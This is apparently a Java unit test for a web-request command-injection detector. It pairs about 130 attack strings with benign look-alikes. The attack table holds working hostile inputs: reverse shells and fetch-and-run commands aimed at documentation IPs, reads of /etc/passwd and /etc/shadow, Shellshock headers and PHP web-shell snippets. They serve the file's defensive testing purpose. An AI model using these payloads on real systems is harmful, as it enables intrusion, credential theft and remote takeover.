package ai.traceable.tme.engine.detect.cmdi;

import static org.assertj.core.api.Assertions.assertThat;

import ai.traceable.tme.engine.detect.Detector;
import ai.traceable.tme.engine.detect.DetectorHarness;
import ai.traceable.tme.engine.detect.DetectorHarness.Report;
import ai.traceable.tme.engine.detect.DetectorTableTest;
import ai.traceable.tme.engine.inspect.Placement;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.provider.Arguments;

class CmdiDetectorTest extends DetectorTableTest {
  private static final CmdiDetector DETECTOR = new CmdiDetector();

  @Override
  protected Detector detector() {
    return DETECTOR;
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        a(Placement.QUERY, "127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd", "cmdi-100"),
        a(Placement.QUERY, "10.0.0.1 | id", "cmdi-100"),
        a(Placement.QUERY, "example.org && whoami", "cmdi-100"),
        a(Placement.QUERY, "upload.png`cat /etc/hosts`", "cmdi-101"),
        a(Placement.QUERY, "$(curl http://198.51.100.4/s.sh | bash)", "cmdi-101"),
        a(Placement.QUERY, ";cat${IFS}/etc/shadow", "cmdi-104"),
        a(Placement.QUERY, "8.8.4.4;c'a't /e't'c/p'a'sswd", "cmdi-104"),
        a(Placement.QUERY, "x;w\\hoami", "cmdi-104"),
        a(Placement.QUERY, "192.168.1.1%0Auname -a", "cmdi-100"),
        a(Placement.QUERY, "host|nc -e /bin/bash 198.51.100.9 9001", "cmdi-103"),
        a(Placement.QUERY, ";bash -i >& /dev/tcp/198.51.100.9/443 0>&1", "cmdi-103"),
        a(
            Placement.QUERY,
            ";wget http://198.51.100.9/x -O /tmp/x;chmod 777 /tmp/x;/tmp/x",
            "cmdi-100"),
        a(Placement.QUERY, "cat$IFS$9/etc/passwd", "cmdi-104"),
        a(Placement.QUERY, ";{ls,-la,/}", "cmdi-104"),
        a(Placement.QUERY, ";/???/?at /???/??ss??", "cmdi-104"),
        a(Placement.QUERY, "127.0.0.1 & ping -n 5 127.0.0.1", "cmdi-100"),
        a(Placement.QUERY, "file.txt | type C:\\Windows\\system.ini", "cmdi-100"),
        a(Placement.QUERY, "& powershell -NoProfile -EncodedCommand SQBFAFgA", "cmdi-105"),
        a(Placement.QUERY, "passthru('whoami');", "cmdi-110"),
        a(Placement.QUERY, "__import__(\"subprocess\").check_output(\"id\")", "cmdi-111"),
        a(Placement.QUERY, "require(\"child_process\").execSync(\"ls\")", "cmdi-112"),
        a(Placement.QUERY, "||sleep 10||", "cmdi-100"),
        a(Placement.QUERY, "%0d%0a/usr/bin/id", "cmdi-100"),
        a(Placement.QUERY, "1;`whoami`", "cmdi-101"),
        a(Placement.QUERY, "a.com;\"u\"n\"a\"me -a", "cmdi-104"),
        a(Placement.QUERY_NAME, "$(uname)", "cmdi-101"),
        a(Placement.PATH, "/diag/8.8.8.8;ls -la", "cmdi-100"),
        a(Placement.PATH, "/lookup/example.com%7Cid", "cmdi-100"),
        a(Placement.HEADER, "() { :; }; /bin/cat /etc/passwd", "cmdi-102"),
        a(Placement.HEADER, "() { _; } >_[$($())] { echo; /usr/bin/id; }", "cmdi-102"),
        a(Placement.HEADER, "10.1.1.1; dig x.attacker.example", "cmdi-100"),
        a(Placement.COOKIE, "() { :;}; /bin/sleep 7", "cmdi-102"),
        a(
            Placement.JSON,
            "global.process.mainModule.constructor._load('child_process').exec('id')",
            "cmdi-112"),
        a(Placement.JSON, "exec(\"import os; os.system('id')\")", "cmdi-110"),
        a(Placement.JSON, "assert($_GET['c'])", "cmdi-110"),
        a(Placement.JSON, "8.8.8.8 || curl http://198.51.100.9/$(id)", "cmdi-100"),
        a(Placement.FORM, "1.1.1.1%3Bls+%2Ftmp", "cmdi-100"),
        a(Placement.FORM, "me%40x.io%60id%60", "cmdi-101"),
        a(Placement.FORM, "-quality 90 in.jpg; wget 198.51.100.9/a.sh", "cmdi-100"),
        a(Placement.MULTIPART, "`whoami`", "cmdi-101"),
        a(Placement.MULTIPART, "doc.pdf;nslookup evil.example|sh;.pdf", "cmdi-100"),
        a(Placement.XML, "<cmd>8.8.8.8 &amp;&amp; cat /etc/group</cmd>", "cmdi-100"),
        a(Placement.JSON, "query { ping(host: \"1.1.1.1 | id\") }", "cmdi-100"),
        a(Placement.TEXT, "bash -c \"$(wget -qO- http://198.51.100.9/i)\"", "cmdi-101"),
        a(Placement.QUERY, "fGNhdCAvZXRjL3Bhc3N3ZA==", "cmdi-100"),
        a(Placement.QUERY, "Runtime.getRuntime().exec(\"id\")", "cmdi-113"),
        a(Placement.QUERY, "%x(id)", "cmdi-114"),
        a(Placement.QUERY, "<?php system($_GET['c']); ?>", "cmdi-110"),
        a(Placement.QUERY, "phpinfo()", "cmdi-110"),
        a(Placement.QUERY, "127.0.0.1 | cmd /c dir", "cmdi-105"),
        a(Placement.QUERY, "x & certutil -urlcache -f http://198.51.100.9/a.exe a.exe", "cmdi-105"),
        a(
            Placement.QUERY,
            "a;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/f",
            "cmdi-103"),
        a(Placement.QUERY, "w^h^o^a^m^i", "cmdi-104"),
        a(Placement.QUERY, "1.1.1.1 && /usr/bin/who?mi", "cmdi-104"),
        a(Placement.QUERY, "test.jpg;${IFS}id", "cmdi-104"),
        a(Placement.JSON, "eval(base64_decode('c3lzdGVtKCdpZCcpOw=='))", "cmdi-110"),
        a(Placement.JSON, "os.popen('id').read()", "cmdi-111"),
        a(Placement.JSON, "new ProcessBuilder(\"id\").start()", "cmdi-113"),
        a(Placement.JSON, "IO.popen('id').read", "cmdi-114"),
        a(Placement.HEADER, "x.com$(sleep 5)", "cmdi-101"),
        a(Placement.QUERY, "127.0.0.1%0a%0dcat /etc/passwd", "cmdi-100"),
        a(Placement.QUERY, ";echo 5f4dcc3b5aa765d61d8327deb882cf99", "cmdi-100"),
        a(Placement.QUERY, "| net user", "cmdi-100"),
        a(Placement.QUERY, "& ipconfig /all", "cmdi-100"),
        a(Placement.QUERY, "1|ls${IFS}-la", "cmdi-104"),
        a(Placement.QUERY, "$(printenv)", "cmdi-101"),
        a(Placement.QUERY, ";sudo -l", "cmdi-100"),
        a(Placement.QUERY, "127.0.0.1;perl -e 'print 1'", "cmdi-100"),
        a(Placement.QUERY, "x;python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "cmdi-111"),
        a(Placement.QUERY, "; ls", "cmdi-100"),
        a(Placement.QUERY, "| whoami", "cmdi-100"),
        a(Placement.QUERY, "`whoami`", "cmdi-101"),
        a(Placement.QUERY, "|| id", "cmdi-100"),
        a(Placement.QUERY, "& id &", "cmdi-100"),
        a(Placement.QUERY, "127.0.0.1 %26%26 dir", "cmdi-100"),
        a(Placement.QUERY, "; /bin/ls -al", "cmdi-100"),
        a(Placement.QUERY, "127.0.0.1;sleep${IFS}5", "cmdi-104"),
        a(Placement.QUERY, "a|ping -c 3 x.oast.example", "cmdi-100"),
        a(Placement.QUERY, "x; curl x.oast.example", "cmdi-100"),
        a(Placement.QUERY, "x;wget${IFS}http://198.51.100.9/a", "cmdi-104"),
        a(Placement.QUERY, "|cat<>/etc/passwd", "cmdi-100"),
        a(Placement.QUERY, "{cat,/etc/passwd}", "cmdi-104"),
        a(Placement.QUERY, "<?php echo shell_exec($_GET['cmd']); ?>", "cmdi-110"),
        a(Placement.QUERY, "<?=`$_GET[0]`?>", "cmdi-110"),
        a(
            Placement.QUERY,
            "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
            "cmdi-112"),
        a(Placement.QUERY, "java.lang.Runtime.getRuntime().exec('id')", "cmdi-113"),
        a(Placement.QUERY, "exec 'id'", "cmdi-110"),
        a(Placement.QUERY, "system \"cat /etc/passwd\"", "cmdi-110"),
        a(Placement.QUERY, "| whoami /all", "cmdi-100"),
        a(Placement.QUERY, "& net user", "cmdi-100"),
        a(Placement.QUERY, "& systeminfo", "cmdi-100"),
        a(Placement.QUERY, "| tasklist", "cmdi-100"),
        a(Placement.QUERY, "& type %SYSTEMROOT%\\win.ini", "cmdi-100"),
        a(Placement.QUERY, "& echo %USERNAME%", "cmdi-100"),
        a(Placement.QUERY, "x%0a id", "cmdi-100"),
        a(Placement.QUERY_NAME, ";id", "cmdi-100"),
        a(Placement.QUERY, "127.0.0.1 && ls /", "cmdi-100"),
        a(Placement.QUERY, "localhost|id", "cmdi-100"),
        a(Placement.QUERY, "localhost;whoami", "cmdi-100"),
        a(Placement.QUERY, "google.com; ping -c 10 127.0.0.1", "cmdi-100"),
        a(Placement.QUERY, "1 | nc x.oast.example 80", "cmdi-100"),
        a(Placement.QUERY, "$(sleep 10)", "cmdi-101"),
        a(Placement.QUERY, ";$(id)", "cmdi-101"),
        a(Placement.QUERY, "test && sleep 5", "cmdi-100"),
        a(Placement.QUERY, "test || sleep 5", "cmdi-100"),
        a(Placement.QUERY, "x' ; sleep 5 #", "cmdi-100"),
        a(Placement.QUERY, "x\" | id #", "cmdi-100"),
        a(Placement.QUERY, "%0a%0dcat%20/etc/passwd", "cmdi-100"),
        a(Placement.QUERY, ";echo${IFS}vulnerable", "cmdi-104"),
        a(Placement.QUERY, "a;/usr/bin/curl${IFS}x.oast.example", "cmdi-104"),
        a(Placement.QUERY, ";cmd.exe /c whoami", "cmdi-105"),
        a(Placement.QUERY, "| powershell.exe -c Get-Process", "cmdi-105"),
        a(Placement.QUERY, "1;ping${IFS}-c${IFS}3${IFS}x.oast.example", "cmdi-104"),
        a(Placement.QUERY, ";uname${IFS}-a", "cmdi-104"),
        a(Placement.QUERY, "& ping -n 3 x.oast.example &", "cmdi-100"),
        a(Placement.QUERY, "'; uname -a; '", "cmdi-100"),
        a(Placement.QUERY, "\"; id; \"", "cmdi-100"),
        a(Placement.QUERY, "|$(id)", "cmdi-101"),
        a(Placement.QUERY, ";/bin/bash -c 'id'", "cmdi-100"),
        a(Placement.JSON, "require('child_process').spawn('sh', ['-c', 'id'])", "cmdi-112"),
        a(Placement.JSON, "__import__('os').popen('whoami').read()", "cmdi-111"),
        a(Placement.JSON, "import os; os.system('id')", "cmdi-111"),
        a(Placement.JSON, "eval(String.fromCharCode(97,108,101,114,116))", "cmdi-110"),
        a(Placement.JSON, "';system('id');'", "cmdi-110"),
        a(Placement.JSON, "\".system('id').\"", "cmdi-110"),
        a(Placement.JSON, "phpinfo();", "cmdi-110"),
        a(Placement.QUERY, ";php -r 'system(\"id\");'", "cmdi-110"),
        a(Placement.QUERY, ";python -c \"import os;os.system('id')\"", "cmdi-111"),
        a(Placement.QUERY, ";perl -e 'exec \"/bin/sh\";'", "cmdi-110"),
        a(Placement.QUERY, ";ruby -e 'exec \"/bin/sh\"'", "cmdi-110"),
        a(Placement.QUERY, "x|base64 -d|sh", "cmdi-100"),
        a(Placement.QUERY, ";echo aWQ= | base64 -d | bash", "cmdi-100"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        b(Placement.JSON, "Tom & Jerry; cat lovers"),
        b(Placement.JSON, "red|green|blue"),
        b(Placement.JSON, "rock & roll"),
        b(Placement.JSON, "a;b;c"),
        b(Placement.JSON, "A&B Corp"),
        b(Placement.JSON, "sleep well"),
        b(Placement.JSON, "echo chamber"),
        b(Placement.JSON, "id: 42"),
        b(Placement.JSON, "cat food | dog food"),
        b(Placement.JSON, "ping me tomorrow"),
        b(Placement.JSON, "type: admin"),
        b(Placement.JSON, "Q&A"),
        b(Placement.JSON, "R&D"),
        b(Placement.JSON, "python developer wanted"),
        b(Placement.JSON, "See you at 5; bring id"),
        b(Placement.JSON, "C:\\Users\\Public"),
        b(Placement.JSON, "x && y"),
        b(Placement.JSON, "https://x.com/?a=1&b=2"),
        b(Placement.JSON, "https://x.com/?a=1&id=2"),
        b(Placement.JSON, "ls -la"),
        b(
            Placement.JSON,
            "The file is at C:\\\\Users\\\\Public\\\\file.txt and Excel says it's locked."),
        b(
            Placement.JSON,
            "Why does `ls -la | grep foo` miss hidden files? I also tried `find . -name '*.foo' -exec cat {} \\;`"),
        b(
            Placement.JSON,
            "FROM eclipse-temurin:17-jre\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\nCOPY build/libs/app.jar /app/app.jar\nHEALTHCHECK CMD curl -f http://localhost:8080/health || exit 1\nENTRYPOINT [\"java\", \"-jar\", \"/app/app.jar\"]"),
        b(
            Placement.JSON,
            "name: CI\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: ./gradlew test && ./gradlew build\n      - run: echo \"sha=${{ github.sha }}\" >> $GITHUB_OUTPUT"),
        b(Placement.JSON, "<?php echo htmlspecialchars($name, ENT_QUOTES, 'UTF-8'); ?>"),
        b(
            Placement.JSON,
            "import os\nimport subprocess\n\nfiles = os.listdir('.')\nresult = subprocess.run(['ls', '-la'], capture_output=True)\nprint(result.stdout.decode())"),
        b(
            Placement.JSON,
            "^(?:[a-z0-9!#$%&'*+/=?^_`{|}~-]+(?:\\\\.[a-z0-9!#$%&'*+/=?^_`{|}~-]+)*)@(?:[a-z0-9-]+\\\\.)+[a-z]{2,}$"),
        b(
            Placement.JSON,
            "I ran `cat /etc/os-release` and it says 22.04. Then `sudo systemctl status agent` shows exit code 203. Logs in /var/log/agent.log attached."),
        b(
            Placement.JSON,
            "Get-ChildItem -Path C:\\\\Logs -Filter *.log | Where-Object { $_.Length -gt 1MB } | Remove-Item -WhatIf"),
        b(
            Placement.JSON,
            "build:\n\tgo build -o bin/app ./cmd/app\n\ntest:\n\tgo test ./... | tee test.log\n\nclean:\n\trm -rf bin/ dist/"),
        b(
            Placement.FORM,
            "Try this:\n\n    curl -s https://api.example.com/v1/status | jq '.services[] | select(.ok == false)'\n\nWorks for me."),
        b(Placement.FORM, "In Excel use =IF(A1>0; \"yes\"; \"no\") and =CONCAT(B1; \" \"; C1)."),
        b(
            Placement.JSON,
            "for f in *.csv; do\n  wc -l \"$f\"\ndone; echo \"done\" > /tmp/status.txt"),
        b(
            Placement.JSON,
            "quick q: in vim, `:%s/foo/bar/g` vs `:s/foo/bar/` \u2014 what's the difference?"),
        b(
            Placement.JSON,
            "location /api/ {\n    proxy_pass http://127.0.0.1:8080;\n    proxy_set_header Host $host;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n}"),
        b(
            Placement.JSON,
            "const tpl = `Hello ${user.name}, you have ${count} new messages`;\nconsole.log(tpl);"),
        b(
            Placement.JSON,
            "df = pd.read_sql('SELECT * FROM sales WHERE year = 2024', conn)\ndf.groupby('region').sum()"),
        b(Placement.JSON, "P@$$w0rd!<>'\\\";--"),
        b(Placement.FORM, "Thanks! 15% would've been $9.75, rounding up :)"),
        b(Placement.JSON, "Payment within 30 days; late fees 2%/month"),
        b(Placement.JSON, "Bake 15 min; reduce to 350\u00b0F & bake 45 min more"),
        b(Placement.JSON, "extract | transform | load"),
        b(Placement.FORM, "spam;scam;crypto giveaway"),
        b(Placement.FORM, "One guest has a nut allergy; high chair needed"),
        b(Placement.JSON, "c/o Mr. & Mrs. O'Leary"),
        b(
            Placement.HEADER,
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36"),
        b(
            Placement.HEADER,
            "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        b(Placement.HEADER, "Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)"),
        b(Placement.HEADER, "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        b(Placement.HEADER, "for=192.0.2.60;proto=https;by=203.0.113.43"),
        b(
            Placement.COOKIE,
            "session_id=8f14e45fceea167a5a36dedd4bea2543; _ga=GA1.1.1843920571.1714567890; id=5"),
        b(Placement.JSON, "Fix: handle O'Brien & D'Angelo names in search (#442)"),
        b(Placement.JSON, "Salt & pepper; sleep 8 hours"),
        b(Placement.JSON, "name;id;email"),
        b(Placement.JSON, "Name | Email | ID"),
        b(Placement.JSON, "sure; i'd"),
        b(Placement.JSON, "x <(^_^)>"),
        b(Placement.JSON, "$(document).ready(function() { $('#x').hide(); })"),
        b(Placement.JSON, "Use $(pwd) to get the current directory in your script"),
        b(Placement.JSON, "I love my dog & cat"),
        b(Placement.JSON, "Shopping list:\ncat food\ndog food\nmilk"),
        b(Placement.JSON, "The system (old one) was fine"),
        b(Placement.JSON, "regex.exec(input) returns null"),
        b(Placement.JSON, "eval(code) is evil"),
        b(Placement.JSON, "Results: ls | less"),
        b(Placement.JSON, "Remember: kill -9 is a last resort"),
        b(Placement.JSON, "rock&roll;sleep"),
        b(Placement.JSON, "Docs: run `ls -la /tmp` to check"),
        b(Placement.JSON, "eyJpZCI6MTA0Mn0="),
        b(Placement.QUERY, "Smith & Sons"),
        b(Placement.QUERY, "o'brien plumbing & heating"),
        b(Placement.JSON, "Ratio is 3:2; see footnote [1] & appendix {A}."),
        b(Placement.JSON, "Leave at door; ring twice"),
        b(Placement.JSON, "status:active AND owner:me"),
        b(Placement.JSON, "Tr0ub4dor&3"),
        b(Placement.JSON, "rm -rf bin/ dist/"),
        b(Placement.JSON, "Flat 3/12, 1-5 Union St"),
        b(Placement.JSON, "The price is $100; whoami? nobody knows"),
        b(Placement.JSON, "nodes: a|b|c; node -> edge"),
        b(Placement.JSON, "Hello | Bonjour | Hola"),
        b(Placement.JSON, "{\"a\":1,\"b\":{\"c\":[1,2]}}"),
        b(Placement.JSON, "Meeting notes\n- id\n- name"),
        b(Placement.PATH, "/products;jsessionid=ABC123"),
        b(Placement.PATH, "/category/home-&-garden"),
        b(Placement.JSON, "1+1=2; 2*2=4"),
        b(Placement.JSON, "A|B testing & ping-pong"),
        b(Placement.JSON, "Call me at 555-1234; text ok"),
        b(Placement.JSON, "$5 & up | free shipping"),
        b(Placement.JSON, "Q: what does `ls -la` do?"),
        b(Placement.QUERY, "name|id"),
        b(Placement.QUERY, "name|email|id"),
        b(Placement.TEXT, "name\nid"),
        b(Placement.QUERY, "test;id"),
        b(Placement.JSON, "Order #12; echo 5 stars"),
        b(Placement.JSON, "Wake up at 7 & sleep 10"),
        b(Placement.JSON, "cd /var/www && ls -la"),
        b(Placement.JSON, "npm install && npm run build"),
        b(Placement.JSON, "git pull && git push origin main"),
        b(Placement.JSON, "What does `rm -rf /` do?"),
        b(Placement.JSON, "rm -rf / is dangerous"),
        b(Placement.JSON, "echo $PATH"),
        b(Placement.JSON, "I ran 'sudo apt update; sudo apt upgrade' and it failed"),
        b(Placement.JSON, "Operating system 'Linux'"),
        b(Placement.JSON, "She said 'id card' is needed"),
        b(Placement.JSON, "user1;user2;id"),
        b(Placement.JSON, "alice;bob;id"),
        b(Placement.JSON, "curl -fsSL https://get.docker.com | sh"),
        b(Placement.JSON, "Run: curl -fsSL https://get.docker.com | sh"),
        b(Placement.QUERY, "how to use ls -la | grep"),
        b(Placement.JSON, "The \"system(s)\" used"),
        b(Placement.JSON, "Mix flour & water; cat naps allowed"),
        b(Placement.JSON, "Open Settings | Privacy | ID"),
        b(Placement.JSON, "Ticket #5 | id 42 | open"),
        b(Placement.JSON, "Step 1; ping the server; step 2; reboot"),
        b(Placement.JSON, "Dogs & cats | pets | animals"),
        b(Placement.JSON, "Try: nc -zv host 22"),
        b(Placement.JSON, "Commands: ls, cd, pwd"),
        b(Placement.JSON, "Great product!!! 5 stars; would buy again"),
        b(Placement.JSON, "Meet me @ 5 & bring snacks; kids welcome"),
        b(Placement.JSON, "#tag1 #tag2 | #id"),
        b(Placement.JSON, "Let's use a pipe | to split values"),
        b(Placement.JSON, "Bread; milk; eggs; cheese"),
        b(Placement.JSON, "https://example.com/search?q=cat&sort=new&id=5"),
        b(Placement.JSON, "https://example.com/a?b=1&sleep=2"),
        b(Placement.JSON, "{\"cmd\":\"ls\",\"args\":[\"-la\"]}"),
        b(Placement.JSON, "cmd: ls -la"),
        b(Placement.JSON, "Response time & uptime | status page"),
        b(Placement.JSON, "I'd say yes; I'd say no"),
        b(Placement.JSON, "Don't; won't; can't"),
        b(Placement.JSON, "$(document).on('click', '.btn', handler)"),
        b(Placement.JSON, "var x = `hello ${name}`"),
        b(Placement.JSON, "python3 manage.py migrate && python3 manage.py runserver"),
        b(Placement.JSON, "docker run -it --rm ubuntu bash"),
        b(Placement.JSON, "SELECT id FROM users; -- comment"),
        b(Placement.JSON, "name = 'id'; value = 5"),
        b(Placement.JSON, "if (a && b) { run(); }"),
        b(Placement.JSON, "x = y | z; w = v & u"),
        b(Placement.JSON, "A | B | C | id"),
        b(Placement.JSON, "Tel: 555-0100 & ext 42; email: a@b.c"),
        b(Placement.JSON, "Wine & cheese | Saturday 7pm; RSVP"),
        b(Placement.JSON, "printf(\"%d\", x); exit(0);"),
        b(Placement.JSON, "Paste the output of `uname -a` here"),
        b(Placement.JSON, "Path: C:\\Windows\\System32 | type: folder"),
        b(Placement.JSON, "sizes: 10|12|14; colors: red|blue"),
        b(
            Placement.HEADER,
            "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36"),
        b(
            Placement.HEADER,
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/465.0.0.44.107;FBBV/609543893;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.5;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5;FBRV/611086108]"),
        b(
            Placement.HEADER,
            "Mozilla/5.0 (Linux; Android 14; SM-G991B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.179 Mobile Safari/537.36 Instagram 331.0.0.37.90 Android (34/14; 420dpi; 1080x2176; samsung; SM-G991B; o1s; exynos2100; en_US; 604247854)"),
        b(Placement.HEADER, "curl/8.5.0"),
        b(Placement.HEADER, "max-age=0, no-cache; private"),
        b(Placement.COOKIE, "a=b|c|id"),
        b(Placement.JSON, "Use the `id` command to see your uid"),
        b(Placement.JSON, "the user's id; the user's name"));
  }

  @Test
  void commandAtTheStartIsOnlyReportedAtParanoiaTwo() {
    Report outcome = DetectorHarness.run(DETECTOR, Placement.JSON, "ls -la /var/log");
    assertThat(outcome.ids(1)).isEmpty();
    assertThat(outcome.ids(2)).containsExactly("cmdi-150");
  }

  @Test
  void shellSnippetInAForumPostIsOnlyReportedAtParanoiaTwo() {
    Report outcome =
        DetectorHarness.run(
            DETECTOR,
            Placement.JSON,
            "Try running `cat /etc/hosts | grep localhost` and paste the output here please");
    assertThat(outcome.ids(1)).isEmpty();
    assertThat(outcome.ids(2)).contains("cmdi-151");
  }

  @Test
  void codeInMultiLineSnippetIsOnlyReportedAtParanoiaTwo() {
    Report outcome =
        DetectorHarness.run(
            DETECTOR,
            Placement.JSON,
            "import subprocess\n\n# list the files\nout = subprocess.run(['ls'], check=True)\n"
                + "print(out)");
    assertThat(outcome.ids(1)).isEmpty();
    assertThat(outcome.ids(2)).contains("cmdi-152");
  }

  @Test
  void proseAfterASeparatorIsNotACommand() {
    for (String text :
        new String[] {
          "Tom & Jerry; cat lovers", "See you at 5; bring id", "cat food | dog food", "x && y"
        }) {
      assertThat(DetectorHarness.run(DETECTOR, Placement.QUERY, text).ids(2)).isEmpty();
    }
  }

  @Test
  void uppercaseLabelIsNotAUnixCommand() {
    assertThat(DetectorHarness.run(DETECTOR, Placement.QUERY, "1.1.1.1 | ID").blocks()).isFalse();
    assertThat(DetectorHarness.run(DETECTOR, Placement.QUERY, "1.1.1.1 | DIR").blocks()).isTrue();
  }

  @Test
  void ordinaryValuesReportNothing() {
    for (String v : new String[] {"42", "john@example.com", "/api/v1/users", "", "a b c"}) {
      assertThat(DetectorHarness.run(DETECTOR, Placement.QUERY, v).findings()).isEmpty();
    }
  }
}
